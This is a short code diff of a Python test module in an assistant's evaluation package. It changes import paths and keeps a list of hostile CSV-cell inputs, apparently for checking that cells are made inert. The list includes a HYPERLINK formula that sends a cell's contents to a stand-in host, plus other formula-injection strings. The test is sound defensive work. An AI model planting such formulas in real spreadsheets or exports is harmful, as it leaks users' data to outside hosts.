@@ -5,12 +5,11 @@ from __future__ import annotations
 import csv
 from pathlib import Path
 
-from assistant.csv_cells import inert
-from assistant.evaluation import metrics as m
-from assistant.evaluation.questions import Question
-from assistant.evaluation.runner import write_outputs
-from assistant.types import Answer
-from assistant.web.feedback import FeedbackStore
+from assistant import Answer, inert
+from evaluation import metrics as m
+from evaluation.questions import Question
+from evaluation.runner import write_outputs
+from web.feedback import FeedbackStore
 
 HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]
 
